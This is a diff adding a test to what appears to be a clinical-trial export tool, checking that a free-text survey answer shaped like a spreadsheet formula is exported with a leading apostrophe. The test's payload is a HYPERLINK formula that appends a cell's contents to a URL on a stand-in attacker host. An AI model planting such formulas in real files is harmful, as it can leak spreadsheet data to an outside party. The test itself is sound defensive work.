@@ -164,6 +164,16 @@ def test_free_text_is_included_only_when_asked(app, trial, export_zip):
     assert json.loads(files["manifest.json"])["filters"]["include_free_text"] is True
 
 
+def test_a_free_text_answer_starting_like_a_formula_is_exported_inert(
+    app, make_user, seed_activity, course, export_zip
+):
+    formula = '=HYPERLINK("http://evil.example/"&A1,"Click")'
+    seed_activity(make_user("therapist", arm="self_paced"), free_text=formula)
+    files = export_zip(include_free_text="y")
+    (answer,) = [r for r in rows(files, "survey_responses.csv") if r["variable"] == "open_use"]
+    assert answer["value"] == "'" + formula
+
+
 def test_a_withdrawn_therapist_disappears_from_the_next_export(
     app, client, csrf, login, trial, export_zip
 ):
